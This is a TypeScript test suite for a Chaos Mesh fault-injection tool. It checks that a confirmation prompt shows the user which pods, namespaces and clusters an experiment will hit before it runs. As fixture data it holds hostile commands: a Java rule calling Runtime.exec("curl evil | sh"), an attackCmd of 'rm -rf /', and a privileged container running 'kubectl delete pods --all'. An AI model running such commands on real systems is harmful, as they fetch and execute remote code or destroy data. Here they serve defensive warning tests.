import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ChaosObject } from '../../../src/core/experiments/experiment';
import { ExperimentStore } from '../../../src/core/experiments/store';
import { InjectionService } from '../../../src/core/injection/injection';
import { cloneManifest } from '../../../src/core/injection/manifest';
import { heldBy, isStarter } from '../../../src/core/workflows/held';
import type { DemoCluster } from '../../../src/demo/cluster';
import { confirmHarm, confirmHarmOfAll } from '../../../src/ui/commands/inject/confirmHarm';
import { askedPolicyOf, policyOf } from '../../../src/ui/session/policy';
import type { ClusterSession } from '../../../src/ui/session/session';
import { desk } from '../editor/desk';
import { keepingLog } from '../connection/keepingLog';
import { useDemoWindow } from './demoWindow';

const CONTEXT = 'distdiag-demo';
let forbidden = '';
const demo = useDemoWindow({
  allowed: ({ resource, namespace }) => resource !== 'pods' || namespace !== forbidden,
});
let cluster: DemoCluster;
let session: ClusterSession;
let pods: string[];

beforeAll(() => void ({ cluster, session, pods } = demo));

afterEach(() => void (forbidden = ''));

function chaos(spec: Record<string, unknown>, kind = 'StressChaos'): ChaosObject {
  return {
    apiVersion: 'chaos-mesh.org/v1alpha1',
    kind,
    metadata: { name: 'one', namespace: 'oceanbase' },
    spec: { mode: 'all', duration: '3m', stressors: { cpu: { workers: 1, load: 50 } }, selector: {}, ...spec },
  };
}
const named = (...names: (string | undefined)[]): object => ({ selector: { pods: { oceanbase: names } } });
/** What may be sent; undefined where the user left. */
const confirmed = async (...asked: Parameters<typeof confirmHarm>): Promise<readonly ChaosObject[] | undefined> =>
  (await confirmHarm(...asked))?.manifests;

const injectionOn = ({ experiments: gateway, clock }: ClusterSession): InjectionService =>
  new InjectionService({ gateway, store: new ExperimentStore({ gateway, clock }), clock, log: keepingLog().log });

describe('what is about to be created', () => {
  it('that hits one pod is asked for once, with the pod, the share and the context', async () => {
    desk.answers.push('Run Again');
    const object = chaos(named(pods[0]) as Record<string, unknown>);
    const asking = { action: 'Run Again', question: 'Inject one again?' };
    expect(await confirmed(object, session, asking)).toEqual([object]);
    const [asked] = desk.texts('warning');
    expect(asked).toContain('Inject one again?');
    for (const text of ['CPU 1 worker at 50% · 3m', pods[0], '1 of 3 database pods (33%)', CONTEXT])
      expect(asked).toContain(text);
    expect(desk.texts('input')).toEqual([]);
    expect((await session.experiments.list()).experiments).toEqual([]); // it only asked
  });

  it('says in which namespace, for the pods of another may have the same names', async () => {
    const list: ClusterSession['pods']['list'] = async () =>
      (await session.pods.list('oceanbase')).map((one) => ({ ...one, target: { ...one.target, namespace: 'live' } }));
    desk.answers.push('Inject');
    const object = chaos({ selector: { pods: { live: [pods[0]] } } });
    await confirmHarm(object, { ...session, pods: { ...session.pods, list } });
    expect(desk.texts('warning')[0]).toContain(`\n${CONTEXT} · live\n`);
  });

  it('is left by leaving the question', async () => {
    expect(await confirmHarm(chaos(named(pods[0]) as Record<string, unknown>), session)).toBeUndefined();
    expect(await confirmHarm(chaos({}), session)).toBeUndefined();
    expect(desk.texts('pick')).toHaveLength(1);
  });

  it('that hits a majority asks for the context’s name', async () => {
    desk.answers.push('as ticked', 'Inject…', CONTEXT);
    const object = chaos({});
    const [sent] = (await confirmed(object, session)) ?? [];
    expect(sent?.spec).toMatchObject({ mode: 'all', selector: { pods: { oceanbase: pods } } });
    expect(desk.texts('pick')[0]).toContain('Clear the ones that must not be affected');
    expect(desk.texts('warning')[0]).toContain('3 of the 3 database pods are affected');
    expect(desk.texts('input')[0]).toContain(`type the context name: ${CONTEXT}`);
    desk.answers.push('as ticked', 'Inject…', 'another-context');
    expect(await confirmHarm(object, session)).toBeUndefined();
  });

  it('is narrowed to the pods that stay ticked, and then no majority is hit', async () => {
    desk.answers.push(pods[1], 'Inject');
    const [fewer] = (await confirmed(chaos({}), session)) ?? [];
    expect(fewer?.spec).toMatchObject({ mode: 'all', selector: { pods: { oceanbase: [pods[1]] } } });
    expect(desk.texts('input')).toEqual([]);
    desk.clear();
    desk.answers.push('');
    await expect(confirmHarm(chaos({}), session)).rejects.toMatchObject({ message: 'No pods are selected.' });
  });

  it('says that Chaos Mesh chooses, and from which pods', async () => {
    desk.answers.push('as ticked', 'Inject');
    const object = chaos({ mode: 'one' });
    const [sent] = (await confirmed(object, session)) ?? [];
    expect(sent?.spec).toMatchObject({ mode: 'one', selector: { pods: { oceanbase: pods } } });
    expect(desk.texts('pick')[0]).toContain('Chaos Mesh picks 1 of these');
    expect(desk.texts('warning')[0]).toContain('1 of these 3, picked by Chaos Mesh: ');
  });

  it('counts what runs already, created by anyone', async () => {
    const running = await session.experiments.create(chaos(named(pods[1]) as Record<string, unknown>));
    await vi.waitFor(async () => {
      const { experiments } = await session.experiments.list();
      expect(experiments.flatMap(({ targets }) => targets.map(({ phase }) => phase))).toEqual(['Injected']);
    }, 20_000);
    desk.answers.push('Inject…');
    expect(await confirmHarm(chaos(named(pods[0]) as Record<string, unknown>), session)).toBeUndefined();
    expect(desk.texts('warning')[0]).toContain('Including running experiments, 2 of the 3 database pods are affected');
    await session.experiments.delete(running.ref);
    await expect.poll(async () => (await session.experiments.list()).experiments, { timeout: 20_000 }).toEqual([]);
  });

  it.each<[string, object, RegExp]>([
    ['no pod', { selector: { labelSelectors: { app: 'none' } } }, /matches no pod/],
    ['a namespace that is not there', { selector: { namespaces: ['vanished'] } }, /matches no pod/],
    ['a pod that is gone', named('gone'), /oceanbase\/gone/],
  ])('that selects %s is refused with what to do', async (_, spec, message) => {
    await expect(confirmHarm(chaos(spec as Record<string, unknown>), session)).rejects.toMatchObject({
      code: 'invalid',
      message: expect.stringMatching(message) as string,
      hint: expect.stringContaining('Correct the selector') as string,
    });
    expect(desk.shown).toEqual([]);
  });

  it('where something is protected asks for the context’s name, and says what protects it', async () => {
    const { config } = session;
    const guarded = (more: object): ClusterSession =>
      ({ ...session, config: { ...config, protection: 'confirm', ...more } }) as ClusterSession;
    const object = chaos(named(pods[0]) as Record<string, unknown>);
    desk.answers.push('Inject…', CONTEXT);
    expect(await confirmed(object, guarded({ protectedNamespaces: ['oceanbase'] }))).toEqual([object]);
    expect(desk.texts('warning')[0]).toContain('The namespace "oceanbase" is protected');
    expect(desk.texts('input')[0]).toContain(`type the context name: ${CONTEXT}`);
    desk.clear();
    desk.answers.push('Inject…', 'yes');
    expect(await confirmHarm(object, guarded({ protectedContexts: [CONTEXT] }))).toBeUndefined();
    expect(desk.texts('input')[0]).toContain(`The context "${CONTEXT}" is protected`);
  });

  it('asks for both names where one part is protected here and another acts elsewhere', async () => {
    const here = chaos(named(pods[0]) as Record<string, unknown>);
    const there = chaos({ ...named(pods[1]), remoteCluster: 'x' });
    const guarded = { ...session, config: { ...session.config, protectedContexts: [CONTEXT] } } as ClusterSession;
    desk.answers.push('Inject…', 'x');
    expect(await confirmHarmOfAll([here, there], guarded)).toBeUndefined();
    expect(desk.texts('input')).toEqual([expect.stringContaining(`type the context name: ${CONTEXT}`)]);
    desk.clear();
    desk.answers.push('Inject…', CONTEXT, 'x');
    expect((await confirmHarmOfAll([here, there], guarded))?.manifests).toHaveLength(2);
    expect(desk.texts('input')[1]).toContain('type the name of the target cluster: x');
  });

  it('what is protected only since the question was answered is still refused', () => {
    const { config } = session;
    const guarded = (more: object): ClusterSession =>
      ({ ...session, config: { ...config, protection: 'confirm', ...more } }) as ClusterSession;
    const then = policyOf(guarded({ protectedNamespaces: ['oceanbase'] }));
    const since = guarded({ protectedNamespaces: ['oceanbase', 'kube-system'] });
    expect(askedPolicyOf(since, 3, then)).toMatchObject({ protectedNamespaces: ['kube-system'], clusterSize: 3 });
    const strict = guarded({ protection: 'refuse', protectedNamespaces: ['oceanbase'] });
    expect(askedPolicyOf(strict, 3, then)).toMatchObject({ protectedNamespaces: ['oceanbase'] });
  });

  it('in a protected namespace is refused, whatever is typed, where the setting says so', async () => {
    const { config } = session;
    const strict = { ...config, protection: 'refuse' };
    const guarded = { ...session, config: { ...strict, protectedNamespaces: ['oceanbase'] } } as ClusterSession;
    await expect(confirmHarm(chaos({}), guarded)).rejects.toMatchObject({
      message: expect.stringContaining('is protected') as string,
    });
    const elsewhere = { ...session, config: { ...strict, protectedContexts: [CONTEXT] } } as ClusterSession;
    await expect(confirmHarmOfAll([chaos({})], elsewhere)).rejects.toMatchObject({ code: 'invalid' });
  });

  it('where the pods cannot be seen asks for the context’s name', async () => {
    forbidden = 'monitoring';
    const elsewhere = chaos({ selector: { namespaces: ['monitoring'] } });
    desk.answers.push('Inject…', CONTEXT);
    expect(await confirmed(elsewhere, session)).toEqual([elsewhere]);
    expect(desk.texts('warning')[0]).toContain('The targets in monitoring are unknown');
  });

  it('together is counted together', async () => {
    const all = [0, 1].map((i) => chaos(named(pods[i]) as Record<string, unknown>));
    desk.answers.push('Start…', CONTEXT);
    expect((await confirmHarmOfAll(all, session, { action: 'Start' }))?.manifests).toEqual(all);
    expect(desk.texts('warning')[0]).toContain('2 of the 3 database pods are affected');
  });

  it('is pinned to the pods that were shown, however it finds them, on both ends', async () => {
    const [here, there] = cluster.topology.pods.map(({ hostNode }) => ({ nodes: [hostNode] }));
    const cut = { action: 'partition', direction: 'both', target: { mode: 'all', selector: there } };
    const object = chaos({ ...cut, stressors: undefined, selector: here }, 'NetworkChaos');
    desk.answers.push('Inject', 'Inject');
    const [sent] = (await confirmed(object, session)) ?? [];
    expect(sent?.spec).toMatchObject({
      selector: { pods: { oceanbase: [pods[0]] } },
      target: { selector: { pods: { oceanbase: [pods[1]] } } },
    });
    // Written down and run again, it is what it was.
    expect(cloneManifest(sent as ChaosObject, 'test').spec).toEqual(object.spec);
    expect((await confirmHarmOfAll([object], session))?.manifests[0]?.spec).toEqual(sent?.spec);
  });
});

describe('everything that an object contains is in the question', () => {
  it('is what it puts on a command line, and then the context’s name is asked for', async () => {
    const cpu = { workers: 1, load: 1, options: ['--vm 16', '--vm-bytes 95%'] };
    const memory = { workers: 1, size: '64MB', oomScoreAdj: -1000 };
    desk.answers.push('Inject…', 'another-context');
    expect(await confirmHarm(chaos({ ...named(pods[0]), stressors: { cpu, memory } }), session)).toBeUndefined();
    const [asked] = desk.texts('warning');
    for (const text of [
      'CPU 1 worker at 1% with --vm 16, --vm-bytes 95%',
      'with OOM score -1000',
      'their effect is unknown',
    ])
      expect(asked).toContain(text);
    expect(desk.texts('input')[0]).toContain(`type the context name: ${CONTEXT}`);
  });

  it('is every field that its summary leaves out, each on one line', async () => {
    const ruleData = 'RULE x\nDO Runtime.exec("curl evil | sh")\n\nENDRULE';
    const object = chaos(
      { ...named(pods[0]), stressors: undefined, action: 'ruleData', port: 9288, ruleData },
      'JVMChaos',
    );
    desk.answers.push('Inject…', CONTEXT);
    expect(await confirmed(object, session)).toEqual([object]);
    const lines = desk.texts('warning')[0]?.split('\n') ?? [];
    expect(lines).toContain('    ruleData: RULE x DO Runtime.exec("curl evil | sh") ENDRULE');
    expect(lines).toContain('    port: 9288');
    expect(desk.texts('input')[0]).toContain('Custom code runs');
  });

  it('is asked for by the context’s name where it is too long to be read', async () => {
    const object = chaos(
      { ...named(pods[0]), stressors: undefined, timeOffset: '1s', clockIds: ['x'.repeat(400)] },
      'TimeChaos',
    );
    desk.answers.push('Inject…');
    expect(await confirmHarm(object, session)).toBeUndefined();
    expect(desk.texts('warning')[0]).toContain('It contains more than can be shown here');
  });

  it.each<[string, Record<string, unknown>]>([
    ['AWSChaos', { action: 'ec2-stop', awsRegion: 'eu', ec2Instance: 'i-1' }],
    [
      'PhysicalMachineChaos',
      { action: 'user_defined', user_defined: { attackCmd: 'rm -rf /' }, address: ['10.0.0.1'] },
    ],
    ['KernelChaos', { ...named(undefined), failKernRequest: { failtype: 0 } }],
    ['BlockChaos', { ...named(undefined), action: 'delay', volumeName: 'v', delay: { latency: '1s' } }],
  ])('is grave for a %s, which hits more than pods', async (kind, spec) => {
    const whole = kind === 'KernelChaos' || kind === 'BlockChaos' ? { ...spec, ...named(pods[0]) } : spec;
    desk.answers.push('Inject…', 'no');
    expect(await confirmHarm(chaos({ stressors: undefined, ...whole }, kind), session)).toBeUndefined();
    expect(desk.texts('input')).toHaveLength(1);
    if (kind === 'PhysicalMachineChaos') expect(desk.texts('warning')[0]).toContain('attackCmd: rm -rf /');
  });

  it('is what a workflow runs besides, and no line of it is one that it wrote itself', async () => {
    const container = { name: 'c', image: 'kubectl', command: ['sh', '-c', 'kubectl delete pods --all'] };
    const step = {
      name: 'a\n1 of 3 database pods',
      templateType: 'StressChaos',
      deadline: '1m',
      stressChaos: chaos({}).spec,
    };
    const task = { container: { ...container, securityContext: { privileged: true } } };
    const templates = [
      { name: 'entry', templateType: 'Serial', children: ['t', step.name] },
      { name: 't', templateType: 'Task', deadline: '1m', task },
      step,
    ];
    const workflow = { ...chaos({}), kind: 'Workflow', spec: { entry: 'entry', templates } };
    const held = heldBy(workflow);
    const before = held.manifests.map(({ metadata }) => `${metadata.name ?? ''}:`);
    desk.answers.push('Inject…', 'no');
    const asked = { starter: workflow, besides: held, moments: held.moments, before };
    expect(await confirmHarmOfAll(held.manifests, session, asked)).toBeUndefined();
    const lines = desk.texts('warning')[0]?.split('\n') ?? [];
    expect(lines).toContain('    t: task.container.command: sh, -c, kubectl delete pods --all');
    expect(lines).toContain('    t: task.container.securityContext.privileged: true');
    expect(lines.filter((line) => line.startsWith('1 of 3 database pods'))).toEqual([]);
    expect(desk.texts('input')[0]).toContain('Containers run with the permissions of the namespace');
    // Not even begun by whoever was not asked.
    const only = { ...workflow, spec: { entry: 't', templates: templates.slice(1, 2) } };
    const begun = injectionOn(session).createStarter(only, policyOf(session));
    await expect(begun).rejects.toMatchObject({ code: 'conflict' });
  });

  it('is a protected namespace of machines', async () => {
    const { config } = session;
    const strict = { ...session, config: { ...config, protection: 'refuse', protectedNamespaces: ['lab'] } };
    const object = chaos({ action: 'process', selector: { physicalMachines: { lab: ['m'] } } }, 'PhysicalMachineChaos');
    await expect(confirmHarm(object, strict as ClusterSession)).rejects.toMatchObject({ code: 'invalid' });
  });

  it('is how long it acts, where that is absurd', async () => {
    desk.answers.push(undefined);
    await confirmHarm(chaos({ ...named(pods[0]), duration: '87600h' }), session);
    expect(desk.texts('warning')[0]).toContain('It runs for 87600h.');
  });
});

describe('another cluster', () => {
  const elsewhere = { ...named('x'), remoteCluster: 'production' };
  const starter = (kind: string, spec: Record<string, unknown>): ChaosObject => ({ ...chaos({}), kind, spec });
  const stress = chaos(elsewhere).spec;
  const step = { name: 'a', templateType: 'StressChaos', deadline: '1m', stressChaos: stress };
  const nested = { schedule: '@daily', type: 'StressChaos', stressChaos: stress };
  const workflow = { entry: 'a', templates: [step] };

  it('is named, and its own name is asked for', async () => {
    desk.answers.push('Apply…', CONTEXT);
    const asking = { action: 'Apply', question: 'Apply one?' };
    expect(await confirmHarm(chaos(elsewhere), session, asking)).toBeUndefined();
    const [asked] = desk.texts('warning');
    for (const text of ['in the cluster production', 'another cluster, "production"', `${CONTEXT} → production`])
      expect(asked).toContain(text);
    expect(desk.texts('input')[0]).toContain('the target cluster: production');
    desk.answers.push('Apply…', 'production');
    const agreed = await confirmHarm(chaos(elsewhere), session, asking);
    expect(agreed?.manifests).toEqual([chaos(elsewhere)]);
  });

  it.each<[string, ChaosObject]>([
    ['by itself', chaos(elsewhere)],
    ['in a workflow', starter('Workflow', workflow)],
    ['in a schedule', starter('Schedule', nested)],
    ['in a workflow in a schedule', starter('Schedule', { schedule: '@daily', type: 'Workflow', workflow })],
    [
      'in a schedule in a workflow',
      starter('Workflow', { entry: 'a', templates: [{ name: 'a', templateType: 'Schedule', schedule: nested }] }),
    ],
    ['in a step that is never begun', starter('Workflow', { ...workflow, entry: 'b' })],
  ])('is as good as protected %s', async (_, object) => {
    const { config } = session;
    const strict = { ...session, config: { ...config, protection: 'refuse' } } as ClusterSession;
    const asked = confirmHarmOfAll(heldBy(object).manifests, strict, { starter: object });
    await expect(asked).rejects.toMatchObject({ message: expect.stringContaining('another cluster, "production"') });
    const service = injectionOn(session);
    const created = isStarter(object.kind)
      ? service.createStarter(object, policyOf(session))
      : service.injectManifest(object, policyOf(session));
    await expect(created).rejects.toMatchObject({ code: 'invalid' });
  });
});
